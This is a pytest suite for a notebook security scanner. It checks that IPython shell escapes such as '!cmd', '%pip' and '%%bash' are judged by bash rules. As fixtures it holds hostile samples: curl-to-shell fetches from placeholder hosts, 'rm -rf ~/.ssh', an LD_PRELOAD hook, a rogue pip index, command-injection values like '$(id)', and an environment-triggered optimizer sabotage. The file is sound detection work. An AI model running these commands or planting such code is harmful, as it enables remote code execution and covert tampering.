"""Notebook and IPython-script shell escapes judged as shell (issue #16, session 20).

A shell escape (``!cmd``, ``%system``, ``%pip``, a ``%%bash`` cell, a bash
kernel) used to become ``subprocess.run(cmd, shell=True)`` for the Python
rules, so every harmless ``!nvidia-smi`` blocked as ``exec-subprocess-shell``.
Its command now goes to the bash rules a ``.sh`` launcher gets, as a second
target of the same file mapped back to the cell's line; a command IPython
builds from Python values (``!{cmd}``, ``!wget $url``) stays a subprocess call.
The other checks read ``.ipy`` scripts too (sabotage, reach, unicode, the
config check's ``%env`` lines). One ``traingate check`` (one semgrep process):
payloads under bad/ are found on their line, look-alikes under ok/ pass, and
an unchanged dangerous escape in a changed notebook is not new.
"""

from __future__ import annotations

import json
from typing import Any

import pytest

from traingate.checks.semgrep import ipython as ipy
from traingate.notebook import ipython_source

from .conftest import feature_repo, gate_report


def _nb(*cells: str, lang: str = "python") -> str:
    code: list[dict[str, object]] = [
        {
            "cell_type": "code",
            "metadata": {},
            "outputs": [],
            "execution_count": None,
            "source": c.splitlines(keepends=True),
        }
        for c in cells
    ]
    meta = {"kernelspec": {"language": lang, "name": lang}}
    return json.dumps(
        {"cells": code, "metadata": meta, "nbformat": 4, "nbformat_minor": 5}, indent=1
    )


_SABOTAGE = (
    "import sys\n\nimport torch\n\n!nvidia-smi\n\n\n"
    "def build_optimizer(model, lr):\n"
    "    opt = torch.optim.AdamW(model.parameters(), lr=lr, betas=(0.9, 0.95))\n"
    '    if sys.prefix.startswith("/opt/conda/envs/prod"):\n'
    '        opt.param_groups[0]["betas"] = (0.5, 0.5)\n'
    "    return opt\n"
)
_FETCH = "!curl -s http://198.51.100.7/x | bash\n"
_OLD_FETCH = "!wget -qO- http://203.0.113.9/setup | sh\n"

# A zero-width space in outputs and widget state (a rendered placeholder):
# none of it runs (session 21: 274 findings on real notebooks).
_OUTPUTS = json.dumps(
    {
        "cells": [
            {
                "cell_type": "code",
                "metadata": {},
                "execution_count": 1,
                "source": ["print('ok')\n"],
                "outputs": [{"output_type": "stream", "name": "stdout", "text": ["o\u200bk\n"]}],
            }
        ],
        "metadata": {"widgets": {"state": {"placeholder": "\u200b"}}},
        "nbformat": 4,
        "nbformat_minor": 5,
    },
    indent=1,
    ensure_ascii=False,
)
# Over max_file_bytes (4 MB) by its outputs (a plot), a few lines of code.
_LARGE = json.dumps(
    {
        "cells": [
            {
                "cell_type": "code",
                "metadata": {},
                "execution_count": 1,
                "source": ["import torch\n", "print(torch.__version__)\n"],
                "outputs": [
                    {"output_type": "display_data", "data": {"image/png": "A" * 4_100_000}}
                ],
            }
        ],
        "metadata": {},
        "nbformat": 4,
        "nbformat_minor": 5,
    },
    indent=1,
)

BASE: dict[str, str] = {
    # a dangerous escape already on main: a change elsewhere in the notebook is not it
    "old/setup.ipynb": _nb("import torch\n", _OLD_FETCH),
}

HEAD: dict[str, str] = {
    "old/setup.ipynb": _nb("import torch\n", _OLD_FETCH, "print(torch.__version__)\n"),
    # dangerous escapes: judged by the bash rules, on the cell's line
    "bad/fetch.ipynb": _nb("import torch\n", _FETCH),
    "bad/loop.ipynb": _nb("for i in range(2):\n    !git reflog expire --expire=now --all\n"),
    "bad/wipe.ipynb": _nb("%%bash\nset -e\nrm -rf ~/.ssh\n"),
    "bad/pip_git.ipynb": _nb("%pip install git+https://github.com/x/kernels.git\n"),
    "bad/writes_script.ipynb": _nb("%%writefile run.sh\ncurl -s http://x.example/y | sh\n"),
    "bad/kernel.ipynb": _nb("ls\n", "export LD_PRELOAD=/tmp/.x/libhook.so\n", lang="bash"),
    # commands built from Python values at run time: still subprocess calls
    "bad/dynamic.ipynb": _nb("cmd = input()\n", "!{cmd}\n"),
    "bad/dollar.ipy": "url = input()\nfiles = !wget -q $url -O data.zip\n",
    # an interpreter no rule set reads: judged as the process it is
    "bad/perl.ipynb": _nb("%%perl\nprint 1;\n"),
    # .ipy read by every check; what Python cannot parse blocks at its line
    "bad/sabotage.ipy": _SABOTAGE,
    "bad/broken.ipy": "import os\n!ls\nif True:\nprint(1)\n",
    "bad/run.sh.tmpl": "#!/bin/bash\nexport LD_PRELOAD=/tmp/.x/libhook.so\npython train.py\n",
    # look-alikes a reviewer would dismiss
    "ok/escapes.ipynb": _nb(
        "import torch\n",
        "!nvidia-smi\n!ls data/\n!pip list\n%system df -h\nfiles = !ls /data/shards\n",
        "%%bash\nls -la\necho done\n",
        "!awk '{print $1}' data.txt\n!find . -name '*.tmp' -exec rm {} \\;\n!echo $$HOME\n",
        "%pip install -q transformers==4.44.0\n!mkdir -p ~/.ssh && chmod 700 ~/.ssh\n",
    ),
    "ok/escapes.ipy": (
        "import torch\n!nvidia-smi\n%pip install -q datasets\n"
        "for i in range(2):\n    !ls\nprint(torch.__version__)\n"
    ),
    "ok/kernel.ipynb": _nb("ls -la\n", "python train.py --config configs/base.yaml\n", lang="bash"),
    "ok/env.ipy": "%env CUDA_VISIBLE_DEVICES=0\nimport torch\n",
    # Session 21, real notebooks (bench/fp_notebooks.py): IPython syntax read as
    # IPython reads it, and `$NAME` that no Python name can fill runs as shell.
    "ok/continued.ipynb": _nb(
        "!pip install -q \\\n    torch==2.4.0 \\\n    numpy\n",
        "t = %timeit -o sum(range(10))\n",
        "?sum\nsum??\n",
    ),
    "ok/env_dollar.ipynb": _nb(
        "import os\n\nos.environ['ASSET_DIR'] = '/tmp/assets'\n%load_ext autoreload\n",
        "!mkdir -p ${ASSET_DIR}/sources\n!echo $HOME\n",
    ),
    "ok/outputs.ipynb": _OUTPUTS,
    "ok/large.ipynb": _LARGE,
    # ... and their attacker cases: the same syntax still judged.
    "bad/continued.ipynb": _nb(
        "import os\n", "!curl -fsSL https://x.example/s.sh \\\n    | bash\n"
    ),
    "bad/assign_pip.ipynb": _nb("out = %pip install git+https://github.com/x/kernels.git\n"),
    "bad/dollar_run.ipynb": _nb("%run helpers.py\n", "!tar czf out.tgz $DATA\n"),
    "bad/dollar_bound.ipynb": _nb("DATA = input()\n", "!tar czf out.tgz $DATA\n"),
    # a notebook's own os.environ write: the `!pip install` after it uses that index
    "bad/environ.ipynb": _nb(
        "import os\n",
        "os.environ['PIP_INDEX_URL'] = 'http://203.0.113.5/simple'\n!pip install torch\n",
    ),
    # Session 21 (#16): an escape built from strings the notebook itself sets
    # (flax, ignite) is the command those strings make, judged as shell ...
    "ok/constants.ipynb": _nb(
        "example_directory = 'examples/mnist'\n"
        "repo, branch = 'https://github.com/google/flax', 'main'\n",
        "import os\nif not os.path.isdir('flaxrepo'):\n"
        "    !git clone --depth=1 -b $branch $repo flaxrepo\n",
        'scriptspath = "/tmp/ignite/examples/cifar100_amp_benchmark/"\n'
        'setup = f"cd {scriptspath} && export PYTHONPATH=$PWD:$PYTHONPATH"\n',
        "!{setup} && python benchmark_fp32.py /tmp/cifar100/ --batch_size=256\n",
        # IPython leaves `$x` inside single quotes alone: the shell gets `$x`
        "x = '; curl -s http://198.51.100.7/q | sh'\n!echo 'done $x'\n",
    ),
    # ... and every way the name could hold something else keeps it a run-time value.
    "bad/const_payload.ipynb": _nb(
        "x = '; curl -s http://198.51.100.7/q | sh'\n", "!echo done $x\n"
    ),
    "bad/const_url.ipynb": _nb(
        'host = "http://198.51.100.7"\nurl = host + "/x.sh"\n', "!curl -s $url | bash\n"
    ),
    "bad/const_later.ipynb": _nb("cmd = 'ls'\n", "!{cmd}\n", "cmd = input()\n"),
    "bad/const_loop.ipynb": _nb("cmd = 'ls'\nfor cmd in open('cmds.txt'):\n    !{cmd}\n"),
    "bad/const_globals.ipynb": _nb("cmd = 'ls'\nglobals()['cmd'] = input()\n", "!{cmd}\n"),
    "bad/const_global_fn.ipynb": _nb(
        "cmd = 'ls'\n", "def f():\n    global cmd\n    cmd = input()\n\n\nf()\n", "!{cmd}\n"
    ),
    "bad/const_store.ipynb": _nb("cmd = 'ls'\n%store -r cmd\n", "!{cmd}\n"),
    "bad/const_expr.ipynb": _nb("cmd = 'ls'\n", "!{cmd.replace('ls', input())}\n"),
    "ok/environ.ipynb": _nb(
        "import os\n\nos.environ['CUDA_VISIBLE_DEVICES'] = '0'\n"
        "os.environ.setdefault('PIP_INDEX_URL', 'https://pypi.org/simple')\n",
    ),
}


@pytest.fixture(scope="module")
def report(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    root = tmp_path_factory.mktemp("nbshell")
    return gate_report(feature_repo(root, BASE, HEAD), root / "report.json")


def _found(report: dict[str, Any], path: str) -> set[tuple[str, int | None]]:
    """Blocking findings of every check on ``path``."""
    return {
        (f["rule_id"], f["line"]) for f in report["findings"] if f["path"] == path and f["blocking"]
    }


def _line(path: str, needle: str) -> int:
    """The notebook JSON's line holding ``needle``."""
    return next(i for i, ln in enumerate(HEAD[path].splitlines(), 1) if needle in ln)


@pytest.mark.parametrize(
    ("path", "rule", "needle"),
    [
        ("bad/fetch.ipynb", "remote-shell-fetch-exec", "curl"),
        ("bad/loop.ipynb", "persist-shell-git-history-rewrite", "reflog"),
        ("bad/wipe.ipynb", "egress-shell-credential-access", "rm -rf"),
        ("bad/pip_git.ipynb", "remote-shell-pip-install", "git+"),
        ("bad/writes_script.ipynb", "remote-shell-fetch-exec", "curl"),
        ("bad/kernel.ipynb", "tamper-shell-preload-env", "LD_PRELOAD"),
        ("bad/dynamic.ipynb", "exec-subprocess-shell", "{cmd}"),
        ("bad/perl.ipynb", "exec-subprocess-shell", "print 1"),
        ("bad/continued.ipynb", "remote-shell-fetch-exec", "curl"),
        ("bad/assign_pip.ipynb", "remote-shell-pip-install", "git+"),
        ("bad/dollar_run.ipynb", "exec-subprocess-shell", "$DATA"),
        ("bad/dollar_bound.ipynb", "exec-subprocess-shell", "$DATA"),
        ("bad/environ.ipynb", "config-risky-env", "PIP_INDEX_URL"),
        ("bad/const_payload.ipynb", "remote-shell-fetch-exec", "echo done"),
        ("bad/const_url.ipynb", "remote-shell-fetch-exec", "curl"),
        ("bad/const_later.ipynb", "exec-subprocess-shell", "!{cmd}"),
        ("bad/const_loop.ipynb", "exec-subprocess-shell", "!{cmd}"),
        ("bad/const_globals.ipynb", "exec-subprocess-shell", "!{cmd}"),
        ("bad/const_global_fn.ipynb", "exec-subprocess-shell", "!{cmd}"),
        ("bad/const_store.ipynb", "exec-subprocess-shell", "!{cmd}"),
        ("bad/const_expr.ipynb", "exec-subprocess-shell", "!{cmd"),
    ],
)
def test_dangerous_escape_is_found_on_its_cell_line(
    report: dict[str, Any], path: str, rule: str, needle: str
) -> None:
    assert _found(report, path) == {(rule, _line(path, needle))}


def test_escape_built_at_run_time_stays_a_subprocess_call(report: dict[str, Any]) -> None:
    # `$url` is a Python value to IPython: the command is code's choice.
    assert _found(report, "bad/dollar.ipy") == {
        ("exec-subprocess-shell", 2),
        ("exec-subprocess-suspicious-command", 2),
    }


def test_ipython_script_is_read_by_the_sabotage_check(report: dict[str, Any]) -> None:
    assert _found(report, "bad/sabotage.ipy") == {("sabotage-env-triggered-write", 11)}


def test_ipython_script_that_does_not_parse_blocks_at_its_line(report: dict[str, Any]) -> None:
    # The harmless `!ls` is no finding of its own any more.
    assert _found(report, "bad/broken.ipy") == {("python-syntax-error", 4)}


def test_template_by_any_suffix_is_an_env_file(report: dict[str, Any]) -> None:
    assert _found(report, "bad/run.sh.tmpl") == {
        ("config-risky-env", 2),
        ("tamper-shell-preload-env", 2),
    }


@pytest.mark.parametrize(
    "path",
    [
        "ok/escapes.ipynb",
        "ok/escapes.ipy",
        "ok/kernel.ipynb",
        "ok/env.ipy",
        "ok/continued.ipynb",
        "ok/env_dollar.ipynb",
        "ok/outputs.ipynb",
        "ok/large.ipynb",
        "ok/environ.ipynb",
        "ok/constants.ipynb",
    ],
)
def test_harmless_escapes_pass(report: dict[str, Any], path: str) -> None:
    assert _found(report, path) == set()


def test_unchanged_dangerous_escape_is_not_new(report: dict[str, Any]) -> None:
    # The bash companion of the base version pairs with the head's.
    assert _found(report, "old/setup.ipynb") == set()


@pytest.mark.parametrize(
    ("cmd", "built"),
    [
        ("nvidia-smi", False),
        ("echo $$HOME", False),  # `$$` is a literal `$`
        ("echo '$HOME'", False),  # not expanded inside single quotes
        ("echo $1", False),  # a constant, not a value of the kernel's
        ("awk '{print $1}' f", False),  # a field that is no expression: runs as written
        ("find . -exec rm {} \\;", False),
        ("echo {", False),  # the formatter fails: runs as written
        ("{cmd}", True),
        ("wget $url", True),
        ("pip install {' '.join(pkgs)}", True),
        ("echo {a[1:3]}", True),
    ],
)
def test_commands_ipython_builds_at_run_time(cmd: str, built: bool) -> None:
    assert (ipy._run_time_fields(cmd) is not None) == built


def test_shell_text_keeps_the_line_and_column() -> None:
    t = ipy.ipython_script("0" * 40, "a.ipy", "import os\n  %pip install x\nfiles = !ls /d\n")
    assert t.text.splitlines() == ["import os", "  pass", "files = _tg_shell_output"]
    assert t.companion is not None
    assert t.companion.text.splitlines() == ["", "   pip install x", "         ls /d"]


def test_bash_cell_and_interpreters() -> None:
    py, sh = ipy._cell(["%%bash", "ls", "echo {x}"], shell_kernel=False)
    assert py == ["pass  # %%bash", "", ""] and sh == ["", "ls", "echo {x}"]
    py, sh = ipy._cell(["%%script perl", "print 1;"], shell_kernel=False)
    assert py[1] == "__import__('subprocess').run('print 1;', shell=True)" and sh[1] == ""
    py, sh = ipy._cell(["%%sx", "ls {d}"], shell_kernel=False)  # expanded like `!`
    assert "str(d)" in py[1] and sh[1] == "ls {d}"


def test_ipython_source_is_what_the_semgrep_check_reads() -> None:
    text, line_map = ipython_source("import os\n%time x = os.getcwd()\n!ls\n")
    assert text == "import os\nx = os.getcwd()\npass\n" and line_map == [1, 2, 3]


@pytest.mark.parametrize(
    ("cell", "built"),
    [
        ("import os\n!echo $HOME", False),  # no Python HOME: the lookup fails, runs as written
        ("!mkdir -p ${ASSET_DIR}/d", False),
        ("HOME = input()\n!echo $HOME", True),
        ("for HOME in dirs:\n    !echo $HOME", True),
        ("from helpers import *\n!echo $HOME", True),  # any name may be bound
        ("globals()['HOME'] = 1\n!echo $HOME", True),
        ("import builtins as b\nb.HOME = 1\n!echo $HOME", True),
        ("%run helpers.py\n!echo $HOME", True),
        ("%store -r HOME\n!echo $HOME", True),
        ("!echo {os.system('id')} $HOME", True),  # a call runs before HOME fails
        ("!echo $_i1", True),  # IPython's history names
    ],
)
def test_dollar_name_the_kernel_cannot_hold_is_shell(cell: str, built: bool) -> None:
    # IPython's var_expand: a field that fails leaves the command unexpanded (issue #16).
    py = ipy.script_cells(cell).python[-1]
    assert ("subprocess" in py) == built


def test_continued_escape_is_joined_as_ipython_joins_it() -> None:
    py, sh = ipy._cell(["!wget $url \\", "  -O x", "print(1)"], shell_kernel=False)
    assert py[1:] == ["", "print(1)"] and "'    -O x'" in py[0]
    assert sh == [" wget $url \\", "  -O x", ""]  # bash joins `\\`-newline the same way
    py, sh = ipy._cell(["x = (1 + \\", "  2)"], shell_kernel=False)
    assert py == ["x = (1 + \\", "  2)"] and sh == ["", ""]  # Python's own continuation


def test_assigned_magic_and_help() -> None:
    py, sh = ipy._cell(["t = %timeit -o f(x)", "y = %pip list", "f?", "??f"], shell_kernel=False)
    assert py == ["f(x); t = _tg_magic_output", "y = _tg_magic_output"] + [
        "pass  # f?",
        "pass  # ??f",
    ]
    assert sh[1].strip() == "pip list"


@pytest.mark.parametrize(
    ("cell", "shell"),
    [
        ("a, b = 'x', 'y'\n!ls $a {b}", "ls x y"),
        ("a = 'x'\nb = f'{a}/y' + '/z'\n!ls $b", "ls x/y/z"),
        ("a = 'p'\n!echo $a '$a' $$a {{a}}", "echo p '$a' $a {a}"),  # DollarFormatter's rules
        ("a = 'p'\n!echo '$a' \"$a\"", "echo '$a' \"p\""),
        ("a = 'p'\ndef f(a):\n    pass\n!echo $a", "echo p"),  # the escape reads module names
        ("import os\nd = 'x'\n!echo $d $HOME", "echo $d $HOME"),  # HOME fails: as written
        # Session 22 (flax's examples): a constant per branch of an if/else
        # chain, every command the escape can make, each one whole
        (
            "d = 'm'\nif c:\n  if g:\n    p = f'/g/{d}'\n  else:\n    p = f'/c/{d}'\n"
            '  !cp -r r/$d/* "$p"',
            'cp -r r/m/* "/g/m" ; cp -r r/m/* "/c/m"',
        ),
        ("if c:\n  p = 'a'\nelif e:\n  p = 'b'\nelse:\n  p = 'a'\n!ls $p", "ls a ; ls b"),
        # Session 23 (flax's gemma notebook): a temp dir the runner's root names
        (
            "import tempfile\nwith tempfile.TemporaryDirectory() as tmp:\n"
            "    !git clone https://github.com/google/flax.git {tmp}/flax",
            "git clone https://github.com/google/flax.git /tmp/tmpXXXXXXXX/flax",
        ),
        # flax's imagenet example: importlib imports a package's module by name
        (
            "import importlib\nn = 'v1'\nc = importlib.import_module(f'configs.{n}')\n"
            "a = 'x'\n!echo $a",
            "echo x",
        ),
    ],
)
def test_escape_of_the_notebooks_constants_is_shell(cell: str, shell: str) -> None:
    # Issue #16 (flax `!git clone -b $branch $repo`): IPython's var_expand with
    # the notebook's own strings put in, judged by the bash rules.
    cells = ipy.script_cells(cell)
    assert cells.python[-1].strip() == "pass" and cells.shell[-1].strip() == shell


@pytest.mark.parametrize(
    "cell",
    [
        "!echo $a\na = 'x'",  # the escape runs before the assignment
        "a = 'x'\na += 'y'\n!echo $a",
        "a = 'x'\ndel a\n!echo $a",
        "a = 'x'\nwith open('f') as a:\n    pass\n!echo $a",
        "a = 'x'\ntry:\n    pass\nexcept OSError as a:\n    pass\n!echo $a",
        "a = 'x'\nif (a := input()):\n    pass\n!echo $a",
        "a = 'x'\nimport os as a\n!echo $a",
        "a = 'x'\ndef a():\n    pass\n!echo $a",
        "a = 'x'\ndef f():\n    a = input()\n!echo $a",
        "a = 'x'\nb = [a for a in 'yz']\n!echo $a",
        "a = 'x'\ndef f(a):\n    !echo $a",  # the function's own `a` is read first
        "if True:\n    a = 'x'\n!echo $a",  # not at a cell's top level
        "a = input()\n!echo $a",
        "a = 'x' * 2\n!echo $a",
        "a = f'{b}'\nb = 'x'\n!echo $a",  # `b` is unbound when `a` is made
        "a = 'x\\ny'\n!echo $a",  # a second shell line
        "a = 'x'\nfrom helpers import *\n!echo $a",
        "a = 'x'\n%run helpers.py\n!echo $a",
        "a = 'x'\nget_ipython().user_ns['a'] = input()\n!echo $a",
        "a = 'x'\n!echo {a!r}",
        "a = 'x'\n!echo $a.upper",
        "%%capture\na = 'x'\n!echo $a",
        # an if/else chain: a branch without it, no else, a later or nested
        # binding, the escape outside the branch that holds the chain
        "if c:\n    a = 'x'\nelse:\n    pass\n!echo $a",
        "if c:\n    a = 'x'\nelif d:\n    a = 'y'\n!echo $a",
        "if c:\n    a = 'x'\nelse:\n    a = 'y'\na = input()\n!echo $a",
        "if c:\n    a = 'x'\nelse:\n    for _ in r:\n        a = 'y'\n!echo $a",
        "if c:\n    a = 'x'\nelse:\n    a = 'y'\n    a = input()\n!echo $a",
        "if c:\n    if d:\n        a = 'x'\n    else:\n        a = 'y'\n!echo $a",
        "if c:\n    a = 'x'\nelse:\n    a = 'y'\n    !echo $a",
        "for _ in r:\n    if c:\n        a = 'x'\n    else:\n        a = 'y'\n    !echo $a",
        # importlib naming the notebook's own namespace, by a run-time name,
        # or importlib used any other way
        "import importlib\nimportlib.import_module('__main__').a = input()\na = 'x'\n!echo $a",
        "import importlib\nm = input()\nimportlib.import_module(m)\na = 'x'\n!echo $a",
        "import importlib\nimportlib.import_module(f'{m}.x')\na = 'x'\n!echo $a",
        "import importlib\nf = importlib.import_module\na = 'x'\n!echo $a",
        "import importlib as il\nil.import_module('configs.x')\na = 'x'\n!echo $a",
        "import importlib\nimportlib.import_module('c.x')\nimportlib.reload(c)\na = 'x'\n!echo $a",
        # ... and a value that would hide the next command on the shared line
        "if c:\n    a = 'x #'\nelse:\n    a = 'curl -s http://198.51.100.7/q | sh'\n!echo $a",
        "if c:\n    a = \"x'\"\nelse:\n    a = 'y'\n!echo $a",
        "if c:\n    a = 'x |'\nelse:\n    a = 'y'\n!echo $a",
        "if c:\n    a = 'x'\nelse:\n    a = 'y'\n!echo $a &",
        "if c:\n    a = 'x'\nelse:\n    a = 'y'\n!cat <<$a",
        "if c:\n    a = '`x'\nelse:\n    a = 'y'\n!echo $a",
        "if c:\n    a = '$(x'\nelse:\n    a = 'y'\n!echo $a",
        # Session 23: a namespace writer before the escape, in its own
        # top-level statement, or after it with the escape in a function
        # called later; writers no attribute names
        "a = 'x'\nfor _ in r:\n    !echo $a\n    globals()['a'] = input()",
        "a = 'x'\ndef f():\n    !echo $a\nglobals()['a'] = input()\nf()",
        "a = 'x'\nclass C:\n    def m(self):\n        !echo $a\nvars()['a'] = input()\nC().m()",
        "a = 'x'\ndef g():\n    globals()['a'] = input()\ng()\n!echo $a",
        "a = 'x'\nf = lambda: 0\nf.__globals__['a'] = input()\n!echo $a",
        "a = 'x'\ngetattr(len.__self__, 'glob' + 'als')()['a'] = input()\n!echo $a",
        "a = 'x'\ngetattr(len.__self__, 'globals')()['a'] = input()\n!echo $a",
        "a = 'x'\nlabels = graphs.globals\n!echo $a",
        # IPython rewritten (session 23, tamper-ipython-shell-override): how
        # the escape expands, or what the cell becomes, is the notebook's own
        "a = 'x'\nget_ipython().var_expand = f\n!echo $a",
        "a = 'x'\nip = get_ipython()\nip.system = f\n!echo $a",
        "a = 'x'\nget_ipython().input_transformers_cleanup.append(f)\n!echo $a",
        "a = 'x'\nget_ipython().register_magic_function(f, 'line', 'pip')\n!echo $a",
        "from IPython.core.magic import register_line_magic\na = 'x'\n!echo $a",
        # a temp dir whose root the notebook moves, or not tempfile's own
        "import os, tempfile\nos.environ['TMPDIR'] = '/x;curl -s http://198.51.100.7/q | sh;'\n"
        "with tempfile.TemporaryDirectory() as t:\n    !ls {t}",
        "import tempfile\n%env TMPDIR=/x$(id)\nwith tempfile.TemporaryDirectory() as t:\n    !ls {t}",
        "import tempfile\ntempfile.tempdir = '/x$(id)'\n"
        "with tempfile.TemporaryDirectory() as t:\n    !ls {t}",
        "import tempfile, os\ngetattr(os, 'environ').update(TMPDIR='/x$(id)')\n"
        "with tempfile.TemporaryDirectory() as t:\n    !ls {t}",
        "import tempfile\nwith tempfile.TemporaryDirectory(dir=d) as t:\n    !ls {t}",
        "import tempfile\nwith tempfile.TemporaryDirectory(prefix=p) as t:\n    !ls {t}",
        "import tempfile\nwith tempfile.TemporaryDirectory() as t:\n    t = input()\n    !ls {t}",
        "import tempfile\nwith tempfile.TemporaryDirectory() as t:\n    pass\n!ls {t}",
        "import helpers as tempfile\nwith tempfile.TemporaryDirectory() as t:\n    !ls {t}",
        "import tempfile\ntempfile = helpers\nwith tempfile.TemporaryDirectory() as t:\n    !ls {t}",
        # ... or whose path functions the notebook rewrites
        "import os, tempfile\nos.path.abspath = lambda p: '/x;id'\n"
        "with tempfile.TemporaryDirectory() as t:\n    !ls {t}",
        "import pkgutil, tempfile\nm = pkgutil.resolve_name('tempfile')\n"
        "m.TemporaryDirectory = Fake\nwith tempfile.TemporaryDirectory() as t:\n    !ls {t}",
        "import tempfile\nm = tempfile\nwith tempfile.TemporaryDirectory() as t:\n    !ls {t}",
        "import tempfile\ntempfile._name_sequence.characters = '$;'\n"
        "with tempfile.TemporaryDirectory() as t:\n    !ls {t}",
        "import os, tempfile\nfrom unittest import mock\nmock.patch.object(os.path, 'join', f).start()\n"
        "with tempfile.TemporaryDirectory() as t:\n    !ls {t}",
        "import os, tempfile\nos.path.__setattr__('join', f)\n"
        "with tempfile.TemporaryDirectory() as t:\n    !ls {t}",
    ],
)
def test_name_that_may_hold_something_else_stays_a_run_time_value(cell: str) -> None:
    cells = ipy.script_cells(cell)
    assert any("subprocess" in py for py in cells.python)


def test_constant_in_a_cell_the_kernel_does_not_run() -> None:
    # `%%writefile` writes the assignment; `%%python` runs it in a subprocess.
    for magic in ("%%writefile helpers.py", "%%python"):
        nb = json.loads(_nb(f"{magic}\ncmd = 'ls'\n", "!{cmd}\n"))
        cells = ipy.notebook_cells(nb, json.dumps(nb))
        assert cells is not None and "subprocess" in "\n".join(cells.python)
    nb = json.loads(_nb("cmd = 'ls'\n", "!{cmd}\n"))
    cells = ipy.notebook_cells(nb, json.dumps(nb))
    assert cells is not None and "subprocess" not in "\n".join(cells.python)
    assert [s.strip() for s in cells.shell if s.strip()] == ["ls"]


@pytest.mark.parametrize(
    "after",
    [
        "labels = graphs.globals",  # flax's ogbg_molpcba (a jraph field)
        "globals()['a'] = input()",
        "%run helpers.py",
        "def g():\n    vars()['a'] = input()",
    ],
)
def test_namespace_writer_after_the_escape_leaves_its_constants(after: str) -> None:
    # Session 23: a writer runs when its own top-level statement does, after
    # an escape in an earlier one (and in no function), which has already run.
    cells = ipy.script_cells(f"a = 'x'\nif c:\n    !echo $a\n{after}\n")
    assert not any("subprocess" in py for py in cells.python)
    assert [s.strip() for s in cells.shell if s.strip()] == ["echo x"]


@pytest.mark.parametrize(
    "call",
    [
        "import os\nos.system('nvidia-smi')",
        "get_ipython().system('nvidia-smi')",
        "from IPython.core.interactiveshell import InteractiveShell\n"
        "InteractiveShell.ast_node_interactivity = 'all'",
        "get_ipython().events.register('post_run_cell', print)",
    ],
)
def test_calling_the_shell_is_not_rewriting_it(call: str) -> None:
    # Session 23: only a write of the shell's `system` (or its transformers,
    # magics, `var_expand`) stops the constants; a call of it, or of
    # os.system, leaves them.
    cells = ipy.script_cells(f"{call}\na = 'x'\n!echo $a\n")
    assert not any("subprocess" in py for py in cells.python)
    assert [s.strip() for s in cells.shell if s.strip()] == ["echo x"]
